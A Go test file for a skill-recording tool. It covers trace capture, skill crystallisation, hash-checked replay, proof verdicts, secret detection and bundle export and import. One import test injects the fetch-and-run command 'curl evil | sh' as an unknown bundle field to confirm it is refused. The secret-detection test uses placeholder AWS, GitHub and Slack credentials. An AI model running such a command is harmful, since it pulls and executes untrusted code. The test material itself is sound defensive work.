package skills

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"sensorium.dev/workbench/internal/actuation"
	"sensorium.dev/workbench/internal/platform/fsaccess"
	"sensorium.dev/workbench/internal/platform/treehash"
)

// demo drives a real directory through a demonstration and records edges the
// way the node agent does: state before, effect, state after.
type demo struct {
	t     *testing.T
	dir   string
	trace *Trace
	cur   *treehash.State
}

var t0 = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

func hashDir(t *testing.T, dir string) *treehash.State {
	t.Helper()
	r, err := fsaccess.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = r.Close() }()
	s, err := treehash.HashHostRoots(map[string]*fsaccess.Root{"work": r}, treehash.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func newDemo(t *testing.T) *demo {
	dir := t.TempDir()
	writeFile(t, dir, "README.md", "hello\n")
	d := &demo{t: t, dir: dir}
	d.cur = hashDir(t, dir)
	d.trace = &Trace{Schema: TraceSchema, TraceID: NewID(), Recording: "ns/rec", Environment: "env", Backend: "host-local",
		StartedAt: t0, InitialState: StateRef{Digest: d.cur.Digest, Entries: StateEntries(d.cur)}, Edges: []Edge{}}
	return d
}

func writeFile(t *testing.T, dir, rel, content string) {
	t.Helper()
	p := filepath.Join(dir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func (d *demo) edge(e Edge, effect func(dir string)) {
	d.t.Helper()
	before := d.cur
	if effect != nil {
		effect(d.dir)
	}
	after := hashDir(d.t, d.dir)
	ch, err := Changes(StateEntries(before), StateEntries(after))
	if err != nil {
		d.t.Fatal(err)
	}
	e.StateBefore, e.StateAfter, e.Changes, e.Backend, e.RecordedAt = before.Digest, after.Digest, ch, "host-local", t0
	if err := d.trace.AppendEdge(e); err != nil {
		d.t.Fatal(err)
	}
	d.cur = after
}

func i32(v int32) *int32   { return &v }
func str(s string) *string { return &s }

func argvDigest(t *testing.T, argv []string) string {
	d, err := actuation.Digest(argv)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// standard: mkdir-like command writing build/out.txt, a patch writing
// notes/greeting.txt with the word "world", a wait.
func standard(t *testing.T, output string) *demo {
	d := newDemo(t)
	argv := []string{"/usr/bin/make", "build", "TARGET=world"}
	d.edge(Edge{Kind: EdgeCommand, Object: "cmd-1",
		Command: &CommandEdge{Profile: "make", Argv: argv, ArgvDigest: argvDigest(t, argv), Cwd: Cwd{Root: "work"},
			OutputDigest: fsaccess.DigestBytes([]byte(output)), OutputBytes: int64(len(output)), Output: str(output)},
		Outcome: Outcome{Phase: "Succeeded", ExitCode: i32(0)}, Authorization: Authorization{Kind: AuthProfile, Ref: "make"}},
		func(dir string) { writeFile(t, dir, "build/out.txt", "built world\n") })
	d.edge(Edge{Kind: EdgePatch, Object: "patch-1",
		Patch: &PatchEdge{Root: "work", Format: "structured", Digest: "sha256:" + strings.Repeat("a", 64),
			Operations: []PatchOperation{{Op: "create", Path: "notes/greeting.txt", Content: str("hello world\n"),
				ContentDigest: fsaccess.DigestBytes([]byte("hello world\n")), ContentBytes: 12}}},
		Outcome: Outcome{Phase: "Applied"}, Authorization: Authorization{Kind: AuthApproval, Ref: "alice"}},
		func(dir string) { writeFile(t, dir, "notes/greeting.txt", "hello world\n") })
	d.edge(Edge{Kind: EdgeWait, Object: "wait-1", Condition: &ConditionEdge{Condition: "file.exists", Result: "Satisfied"},
		Outcome: Outcome{Phase: "Satisfied"}, Authorization: Authorization{Kind: AuthObserve, Ref: "wait-1"}}, nil)
	return d
}

func crystallize(t *testing.T, d *demo, params ...ParamSpec) *Manifest {
	t.Helper()
	m, err := Crystallize(d.trace, CrystallizeOptions{Name: "Build and greet", Description: "demo", Parameters: params, Now: t0})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestIDsAreUUIDv7(t *testing.T) {
	a, b := NewID(), NewID()
	if !IsUUIDv7(a) || !IsUUIDv7(b) || a == b {
		t.Fatalf("ids %q %q", a, b)
	}
	if IsUUIDv7("0190f0c2-3b4c-4d5e-8f00-000000000000") { // v4 nibble
		t.Fatal("a v4 id must not pass as v7")
	}
}

func TestTraceProblemsAndCaps(t *testing.T) {
	d := standard(t, "ok\n")
	if p := d.trace.Problems(); len(p) != 0 {
		t.Fatalf("complete trace reported %v", p)
	}
	bad := *d.trace
	bad.Edges = slices.Clone(d.trace.Edges)
	bad.Edges[1].StateAfter = ""
	bad.Edges[2].Authorization = Authorization{}
	if p := bad.Problems(); len(p) != 2 {
		t.Fatalf("want 2 problems, got %v", p)
	}
	full := &Trace{}
	for i := 0; i < MaxEdges; i++ {
		if err := full.AppendEdge(Edge{}); err != nil {
			t.Fatal(err)
		}
	}
	if err := full.AppendEdge(Edge{}); actuation.CodeOf(err) != actuation.CodeTraceTooLarge {
		t.Fatalf("edge %d: got %v, want %s", MaxEdges+1, err, actuation.CodeTraceTooLarge)
	}
	s, trunc := Bounded(strings.Repeat("é", 10), 5)
	if !trunc || *s != "éé" {
		t.Fatalf("Bounded cut %q (trunc %v): must not split a rune", *s, trunc)
	}
}

func TestCrystallize(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d, ParamSpec{Name: "target", Value: "world"})
	if len(m.Steps) != 3 || m.Steps[0].Kind != EdgeCommand || m.Steps[1].Kind != EdgePatch || m.Steps[2].Kind != EdgeWait {
		t.Fatalf("steps %+v", m.Steps)
	}
	if got := m.Steps[0].Command.Argv; !slices.Equal(got, []string{"/usr/bin/make", "build", "TARGET={{target}}"}) {
		t.Fatalf("argv template %v", got)
	}
	if got := *m.Steps[1].Patch.Operations[0].Content; got != "hello {{target}}\n" {
		t.Fatalf("content template %q", got)
	}
	if m.Parameters[0].Occurrences != 2 || m.Parameters[0].Default != "world" {
		t.Fatalf("parameter %+v", m.Parameters[0])
	}
	if !slices.Equal(m.Capabilities.Profiles, []string{"make"}) || !slices.Equal(m.Capabilities.Backends, []string{"host-local"}) {
		t.Fatalf("capabilities %+v", m.Capabilities)
	}
	for i, s := range m.Steps {
		if s.ExpectedBefore != d.trace.Edges[i].StateBefore || s.ExpectedAfter != d.trace.Edges[i].StateAfter {
			t.Fatalf("step %d hashes do not come from the trace", i+1)
		}
	}
	if m.Slug != "build-and-greet" || !IsUUIDv7(m.SkillID) || m.DerivedFromTraceID != d.trace.TraceID {
		t.Fatalf("identity %+v", m)
	}
	// Refusals.
	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "absent", Value: "nowhere"}}}); actuation.CodeOf(err) != actuation.CodeSkillParameterUnknown {
		t.Fatalf("unused parameter: %v", err)
	}
	if _, err := Crystallize(d.trace, CrystallizeOptions{Name: "x", Parameters: []ParamSpec{{Name: "Bad-Name", Value: "world"}}}); actuation.CodeOf(err) != actuation.CodeSkillParameterInvalid {
		t.Fatalf("bad parameter name: %v", err)
	}
	empty := &Trace{Schema: TraceSchema, TraceID: NewID(), InitialState: d.trace.InitialState}
	if _, err := Crystallize(empty, CrystallizeOptions{Name: "x"}); actuation.CodeOf(err) != actuation.CodeTraceInvalid {
		t.Fatalf("empty trace: %v", err)
	}
	// A refused edge is recorded but is not a step.
	d2 := standard(t, "ok\n")
	d2.edge(Edge{Kind: EdgeCommand, Object: "cmd-refused",
		Command: &CommandEdge{Profile: "rm", Argv: []string{"/bin/rm"}, ArgvDigest: argvDigest(t, []string{"/bin/rm"}), Cwd: Cwd{Root: "work"}},
		Outcome: Outcome{Phase: "Refused", Code: "argv-not-admitted"}, Authorization: Authorization{Kind: AuthProfile, Ref: "rm"}}, nil)
	m2 := crystallize(t, d2)
	if len(m2.Steps) != 3 || slices.Contains(m2.Capabilities.Profiles, "rm") {
		t.Fatalf("refused edge became a step or a capability: %d steps, %v", len(m2.Steps), m2.Capabilities.Profiles)
	}
}

// replayInto replays plan into dir the way the controller does, performing
// each step's effect with do, and returns the report.
func replayInto(t *testing.T, pl *Plan, dir string, do func(i int, dir string), outcome func(i int) Outcome) *ReplayReport {
	return replayIntoBetween(t, pl, dir, do, outcome, nil)
}

// replayIntoBetween is replayInto with a hook run between edges (before step i's state
// before is taken): an out-of-band change there is a state-hash mismatch before step i.
func replayIntoBetween(t *testing.T, pl *Plan, dir string, do func(i int, dir string), outcome func(i int) Outcome, between func(i int, dir string)) *ReplayReport {
	t.Helper()
	r := &ReplayReport{ReplayID: NewID(), SkillID: pl.Manifest.SkillID, SkillVersion: 1, Backend: pl.Backend, Mode: pl.Mode, Edges: []ReplayEdge{}}
	cur := hashDir(t, dir)
	for i := range pl.Steps {
		if den := pl.CheckCapabilities(i); den != nil {
			r.Denials = append(r.Denials, *den)
			break
		}
		if between != nil {
			between(i, dir)
			cur = hashDir(t, dir)
		}
		before := cur
		do(i, dir)
		cur = hashDir(t, dir)
		o := pl.Steps[i].ExpectedOutcome
		if outcome != nil {
			o = outcome(i)
		}
		e, s := pl.Evaluate(i, Observation{Object: "x", Before: StateRef{Digest: before.Digest, Entries: StateEntries(before)},
			After: StateRef{Digest: cur.Digest, Entries: StateEntries(cur)}, Outcome: o,
			Authorization: Authorization{Kind: AuthProfile, Ref: "p"}, Profile: profileOf(pl.Steps[i])})
		r.Edges = append(r.Edges, e)
		if s != nil {
			r.Surprises = append(r.Surprises, *s)
			if s.Halted {
				break
			}
		}
	}
	Summarize(r, len(pl.Steps), true)
	return r
}

func profileOf(s PlannedStep) string {
	if s.Command != nil {
		return s.Command.Profile
	}
	return ""
}

// faithful performs the planned steps' effects like the demonstration did.
func faithful(pl *Plan) func(i int, dir string) {
	return func(i int, dir string) {
		check := func(err error) {
			if err != nil {
				panic(fmt.Sprintf("faithful step %d: %v", i, err)) // no *testing.T here: fail loudly
			}
		}
		switch i {
		case 0:
			check(os.MkdirAll(filepath.Join(dir, "build"), 0o755))
			target := pl.Parameters["target"]
			if target == "" {
				target = "world"
			}
			check(os.WriteFile(filepath.Join(dir, "build/out.txt"), []byte("built "+target+"\n"), 0o644))
		case 1:
			op := pl.Steps[1].Patch.Operations[0]
			check(os.MkdirAll(filepath.Join(dir, "notes"), 0o755))
			check(os.WriteFile(filepath.Join(dir, op.Path), []byte(*op.Content), 0o644))
		}
	}
}

func freshCopy(t *testing.T) string {
	dir := t.TempDir()
	writeFile(t, dir, "README.md", "hello\n")
	return dir
}

func TestReplayExactIntoFreshCopy(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d, ParamSpec{Name: "target", Value: "world"})
	pl, err := NewPlan(m, nil, "host-local", ModeExact)
	if err != nil {
		t.Fatal(err)
	}
	r := replayInto(t, pl, freshCopy(t), faithful(pl), nil)
	if r.Status != StatusSuccess || r.Fidelity != FidelityExact || r.EdgesCommitted != 3 || r.EdgesAttempted != 3 {
		t.Fatalf("report %+v", r)
	}
	if r.StatusString() != "success" || r.Semantic.Available {
		t.Fatalf("status %s semantic %+v", r.StatusString(), r.Semantic)
	}
}

func TestReplayWithNewParameterIsStructural(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d, ParamSpec{Name: "target", Value: "world"})
	if _, err := NewPlan(m, map[string]string{"nope": "x"}, "host-local", ModeExact); actuation.CodeOf(err) != actuation.CodeSkillParameterUnknown {
		t.Fatalf("unknown parameter: %v", err)
	}
	pl, err := NewPlan(m, map[string]string{"target": "moon"}, "host-local", ModeExact)
	if err != nil {
		t.Fatal(err)
	}
	if got := pl.Steps[0].Command.Argv[2]; got != "TARGET=moon" {
		t.Fatalf("substituted argv %q", got)
	}
	if m.Steps[0].Command.Argv[2] != "TARGET={{target}}" {
		t.Fatal("planning must not modify the manifest")
	}
	r := replayInto(t, pl, freshCopy(t), faithful(pl), nil)
	if r.Status != StatusSuccess || r.Fidelity != FidelityStructural || r.EdgesCommitted != 3 {
		t.Fatalf("report %+v surprises %+v", r, r.Surprises)
	}
}

func TestOutOfBandChangeHaltsAtTheRightEdge(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d)
	pl, _ := NewPlan(m, nil, "host-local", ModeExact)
	dir := freshCopy(t)
	do := func(i int, dir string) {
		faithful(pl)(i, dir)
		if i == 0 { // someone edits the workspace after edge 1
			writeFile(t, dir, "README.md", "tampered\n")
		}
	}
	r := replayInto(t, pl, dir, do, nil)
	if r.Status != StatusHalted || r.HaltedAtEdge != 1 || r.StatusString() != "halted_at_edge_1" || r.Fidelity != FidelityFailed {
		t.Fatalf("report %s %+v", r.StatusString(), r)
	}
	s := r.Surprises[0]
	if s.ExpectedHash != m.Steps[0].ExpectedAfter || s.ObservedHash == s.ExpectedHash || !s.Halted {
		t.Fatalf("surprise %+v", s)
	}
	// The change made during edge 1 shows as an effect difference on README.md.
	if len(s.Differences) != 1 || s.Differences[0].Path != "work/README.md" {
		t.Fatalf("differences %+v", s.Differences)
	}

	// Changed before replay, on a path the skill never touches: exact mode
	// halts at edge 1 on the before state; structural mode completes with surprises.
	dir2 := freshCopy(t)
	writeFile(t, dir2, "extra.txt", "x")
	r2 := replayInto(t, pl, dir2, faithful(pl), nil)
	if r2.HaltedAtEdge != 1 || r2.Surprises[0].Kind != SurpriseStateBefore || r2.Surprises[0].Differences[0].Path != "work/extra.txt" {
		t.Fatalf("exact: %s %+v", r2.StatusString(), r2.Surprises)
	}
	pls, _ := NewPlan(m, nil, "host-local", ModeStructural)
	dir3 := freshCopy(t)
	writeFile(t, dir3, "extra.txt", "x")
	r3 := replayInto(t, pls, dir3, faithful(pls), nil)
	if r3.Status != StatusCompletedWithSurprises || r3.Fidelity != FidelityStructural || r3.EdgesCommitted != 3 || r3.StatusString() != "completed_with_surprises" {
		t.Fatalf("structural: %s %+v", r3.StatusString(), r3)
	}

	// A different effect at edge 2 halts there in both modes.
	dir4 := freshCopy(t)
	r4 := replayInto(t, pls, dir4, func(i int, dir string) {
		faithful(pls)(i, dir)
		if i == 1 {
			writeFile(t, dir, "notes/greeting.txt", "something else\n")
		}
	}, nil)
	if r4.HaltedAtEdge != 2 || r4.Surprises[0].Kind != SurpriseEffect || r4.Surprises[0].Differences[0].Path != "work/notes/greeting.txt" {
		t.Fatalf("effect: %s %+v", r4.StatusString(), r4.Surprises)
	}
	// A different exit code halts with an outcome mismatch.
	r5 := replayInto(t, pls, freshCopy(t), faithful(pls), func(i int) Outcome {
		if i == 0 {
			return Outcome{Phase: "Failed", ExitCode: i32(2)}
		}
		return pls.Steps[i].ExpectedOutcome
	})
	if r5.HaltedAtEdge != 1 || r5.Surprises[0].Kind != SurpriseOutcome {
		t.Fatalf("outcome: %+v", r5.Surprises)
	}
}

func TestUndeclaredCapabilityIsDeniedAndFailsTheProof(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d)
	m.Capabilities.Profiles = []string{"reader"} // an operator narrowed the declaration
	pl, err := NewPlan(m, nil, "host-local", ModeExact)
	if err != nil {
		t.Fatal(err)
	}
	r := replayInto(t, pl, freshCopy(t), faithful(pl), nil)
	if r.EdgesAttempted != 0 || len(r.Denials) != 1 || r.Denials[0].Code != string(actuation.CodeCapabilityUndeclared) || r.HaltedAtEdge != 1 {
		t.Fatalf("report %+v", r)
	}
	p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, Replay: r, HashReproducible: ptr(true)})
	if p.OverallVerdict != VerdictFail || p.Gate(GateNoHiddenCapability).Verdict != VerdictFail || len(p.Authority.Denials) == 0 {
		t.Fatalf("proof %+v", p)
	}
	// An undeclared backend is denied too.
	m2 := crystallize(t, d)
	pl2, _ := NewPlan(m2, nil, "qemu-microvm.v1", ModeExact)
	if den := pl2.CheckCapabilities(0); den == nil || !strings.Contains(den.Message, "qemu-microvm.v1") {
		t.Fatalf("backend denial %+v", den)
	}
}

func ptr[T any](v T) *T { return &v }

func TestProofVerdictsAreNeverRoundedUp(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d)
	pl, _ := NewPlan(m, nil, "host-local", ModeExact)
	good := replayInto(t, pl, freshCopy(t), faithful(pl), nil)

	p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, Replay: good, HashReproducible: ptr(true)})
	if p.OverallVerdict != VerdictPass {
		t.Fatalf("full evidence: %s %+v", p.OverallVerdict, p.Gates)
	}
	if g := p.Gate(GateReplayFidelity); g.Verdict != VerdictPass || g.Level != "exact" {
		t.Fatalf("fidelity gate %+v", g)
	}
	if len(p.Gates) != 6 {
		t.Fatalf("gates %+v", p.Gates)
	}
	// No replay: partial, not pass.
	if p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, HashReproducible: ptr(true)}); p.OverallVerdict != VerdictPartial {
		t.Fatalf("no replay: %s", p.OverallVerdict)
	}
	// No content hash: inconclusive.
	if p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, Replay: good}); p.OverallVerdict != VerdictInconclusive {
		t.Fatalf("no hash: %s", p.OverallVerdict)
	}
	// Surprises: partial.
	pls, _ := NewPlan(m, nil, "host-local", ModeStructural)
	dir := freshCopy(t)
	writeFile(t, dir, "extra.txt", "x")
	surprised := replayInto(t, pls, dir, faithful(pls), nil)
	if p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, Replay: surprised, HashReproducible: ptr(true)}); p.OverallVerdict != VerdictPartial {
		t.Fatalf("surprises: %s", p.OverallVerdict)
	}
	// Halted: fail.
	halted := replayInto(t, pl, dir, faithful(pl), nil)
	if p := ComputeProof(ProofEvidence{Manifest: m, Trace: d.trace, Replay: halted, HashReproducible: ptr(true)}); p.OverallVerdict != VerdictFail {
		t.Fatalf("halted: %s", p.OverallVerdict)
	}
	// An unauthorized edge: fail.
	bad := *d.trace
	bad.Edges = slices.Clone(d.trace.Edges)
	bad.Edges[0].Authorization = Authorization{}
	if p := ComputeProof(ProofEvidence{Manifest: m, Trace: &bad, Replay: good, HashReproducible: ptr(true)}); p.OverallVerdict != VerdictFail || p.Gate(GateAuthority).Verdict != VerdictFail {
		t.Fatalf("unauthorized: %s", p.OverallVerdict)
	}
}

const fakeAWS = "AKIAIOSFODNN7EXAMPLE"

func TestSecretDetection(t *testing.T) {
	pos := map[string]string{
		"aws-access-key-id":         "key " + fakeAWS + " here",
		"aws-secret-access-key":     "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"github-token":              "token ghp_" + strings.Repeat("A1b2", 9),
		"github-fine-grained-token": "github_pat_" + strings.Repeat("x", 30),
		"private-key-pem":           "-----BEGIN OPENSSH PRIVATE KEY-----\nabc",
		"jwt":                       "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
		"password-assignment":       "DB_PASSWORD=hunter2hunter2",
		"slack-token":               "xoxb-123456789012-abcdefghij",
		"url-credentials":           "https://user:s3cret@example.invalid/repo",
	}
	for kind, text := range pos {
		f := DetectSecrets("f", text)
		if !slices.ContainsFunc(f, func(x SecretFinding) bool { return x.Kind == kind }) {
			t.Errorf("%s not detected in %q: %+v", kind, text, f)
		}
	}
	for _, text := range []string{"build ok", "sha256:" + strings.Repeat("ab", 32), "password:", "the token is in the vault", "/usr/bin/make TARGET=world"} {
		if f := DetectSecrets("f", text); len(f) != 0 {
			t.Errorf("false positive in %q: %+v", text, f)
		}
	}
}

func exportInput(d *demo, m *Manifest, r *ReplayReport) ExportInput {
	return ExportInput{Manifest: m, Trace: d.trace, Replay: r, WorkbenchVersion: "test", Now: t0,
		Refs: []EvidenceRef{{Kind: "Recording", Name: "rec"}}, ImageDigests: map[string]string{"guest": "sha256:" + strings.Repeat("c", 64)}}
}

func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
	d := standard(t, "ok\n")
	m := crystallize(t, d)
	pl, _ := NewPlan(m, nil, "host-local", ModeExact)
	r := replayInto(t, pl, freshCopy(t), faithful(pl), nil)
	b, err := Export(exportInput(d, m, r), ExportOptions{Profile: RedactionNone})
	if err != nil {
		t.Fatal(err)
	}
	if b.RedactionProfile != RedactionNone || b.Proof.Redaction.Selection != SelectionExplicit || b.Proof.OverallVerdict != VerdictPass || b.Signature != nil || b.Signed {
		t.Fatalf("bundle %s %s", b.RedactionProfile, b.Proof.OverallVerdict)
	}
	// Two independent serializations: typed and generic, compact and indented.
	typed, err := CanonicalTyped(b)
	if err != nil {
		t.Fatal(err)
	}
	indented, _ := Marshal(b)
	compact, _ := json.Marshal(b)
	g1, err := CanonicalGeneric(indented)
	if err != nil {
		t.Fatal(err)
	}
	g2, _ := CanonicalGeneric(compact)
	if !bytes.Equal(typed, g1) || !bytes.Equal(g1, g2) {
		t.Fatal("canonical forms differ across serializations")
	}
	if actuation.DigestBytes(typed) != b.ContentHash {
		t.Fatal("contentHash is not the hash of the canonical form")
	}
	// Export → import → export of the imported value: same hash.
	imp, err := Import(indented)
	if err != nil {
		t.Fatal(err)
	}
	if h, _ := ComputeHash(imp); h != b.ContentHash {
		t.Fatalf("hash after import %s != %s", h, b.ContentHash)
	}
	again, _ := Marshal(imp)
	if _, err := Import(again); err != nil {
		t.Fatalf("re-import: %v", err)
	}

	// Tampering is caught.
	tampered := bytes.Replace(indented, []byte(`"Build and greet"`), []byte(`"Build and greeT"`), 1)
	if _, err := Import(tampered); actuation.CodeOf(err) != actuation.CodeBundleHashMismatch {
		t.Fatalf("tampered: %v", err)
	}
	// Missing content hash fails validation (seed fixture invalid-missing-content-hash).
	var doc map[string]any
	if err := json.Unmarshal(indented, &doc); err != nil {
		t.Fatal(err)
	}
	delete(doc, "content_hash")
	noHash, _ := json.Marshal(doc)
	if _, err := Import(noHash); actuation.CodeOf(err) != actuation.CodeBundleHashMissing {
		t.Fatalf("missing hash: %v", err)
	}
	// A camelCase bundle of an earlier version is refused with its own code.
	doc["contentHash"] = b.ContentHash
	legacy, _ := json.Marshal(doc)
	if _, err := Import(legacy); actuation.CodeOf(err) != actuation.CodeBundleFormatLegacy {
		t.Fatalf("legacy: %v", err)
	}
	delete(doc, "contentHash")
	// Unknown members are refused: bundles are data of a known shape.
	doc["content_hash"] = b.ContentHash
	doc["script"] = "curl evil | sh"
	extra, _ := json.Marshal(doc)
	if _, err := Import(extra); actuation.CodeOf(err) != actuation.CodeBundleSchemaInvalid {
		t.Fatalf("unknown member: %v", err)
	}
	// Signature claims are refused.
	delete(doc, "script")
	doc["signed"] = true
	signed, _ := json.Marshal(doc)
	if _, err := Import(signed); actuation.CodeOf(err) != actuation.CodeBundleSchemaInvalid {
		t.Fatalf("signed: %v", err)
	}
	big := make([]byte, MaxBundleBytes+1)
	if _, err := Import(big); actuation.CodeOf(err) != actuation.CodeBundleTooLarge {
		t.Fatalf("too large: %v", err)
	}
}

func TestRedactedExport(t *testing.T) {
	d := standard(t, "deploying with "+fakeAWS+"\n")
	m := crystallize(t, d)
	in := exportInput(d, m, nil)
	if _, err := Export(in, ExportOptions{Profile: RedactionNone}); actuation.CodeOf(err) != actuation.CodeSecretDetected {
		t.Fatalf("none with a secret: %v", err)
	}
	b, err := Export(in, ExportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if b.RedactionProfile != RedactionTranscriptPII {
		t.Fatalf("pre-selected %s", b.RedactionProfile)
	}
	raw, _ := Marshal(b)
	if bytes.Contains(raw, []byte(fakeAWS)) {
		t.Fatal("the secret survived redaction")
	}
	if b.Trace.Edges[0].Command.OutputDigest == "" || b.Trace.Edges[0].Command.Output != nil {
		t.Fatal("transcript_pii must strip the body and keep the digest")
	}
	if b.Trace.Edges[1].Patch.Operations[0].Content != nil || b.Trace.Edges[1].Patch.Operations[0].ContentDigest == "" {
		t.Fatal("patch content must be stripped, its digest kept")
	}
	if g := b.Proof.Gate(GateRedactionVerify); g.Verdict != VerdictPass {
		t.Fatalf("redaction gate %+v", g)
	}
	if !slices.Contains(b.Proof.Redaction.FieldsStripped, "interaction_trace.edges[*].command.output") || !slices.Equal(b.Proof.Redaction.SecretsFoundBefore, []string{"aws-access-key-id"}) {
		t.Fatalf("redaction result %+v", b.Proof.Redaction)
	}
	if _, err := Import(raw); err != nil {
		t.Fatalf("redacted bundle must verify: %v", err)
	}
	// The caller's trace is untouched.
	if d.trace.Edges[0].Command.Output == nil {
		t.Fatal("redaction modified the input trace")
	}
	// Override exports verbatim, and the proof says so.
	o, err := Export(in, ExportOptions{Profile: RedactionNone, Override: true})
	if err != nil {
		t.Fatal(err)
	}
	if o.Proof.Gate(GateRedactionVerify).Verdict != VerdictFail || o.Proof.OverallVerdict != VerdictFail || !o.Proof.Redaction.Override {
		t.Fatalf("override proof %+v", o.Proof.Gate(GateRedactionVerify))
	}
	// A secret in argv needs full redaction; full keeps hashes and verdicts only.
	d2 := standard(t, "ok\n")
	d2.trace.Edges[0].Command.Argv = append(d2.trace.Edges[0].Command.Argv, "PASSWORD=hunter2hunter2")
	m2 := crystallize(t, d2)
	f, err := Export(exportInput(d2, m2, nil), ExportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if f.RedactionProfile != RedactionFull || f.Trace.Edges[0].Command.Argv != nil || f.Manifest.Steps[0].Command.Argv != nil {
		t.Fatalf("full: %s", f.RedactionProfile)
	}
	fr, _ := Marshal(f)
	if bytes.Contains(fr, []byte("hunter2")) {
		t.Fatal("secret survived full redaction")
	}
	if _, err := Import(fr); err != nil {
		t.Fatalf("full bundle must verify: %v", err)
	}
	if f.Trace.Edges[0].StateAfter == "" || f.Trace.Edges[0].Command.ArgvDigest == "" {
		t.Fatal("full redaction must keep hashes")
	}
}
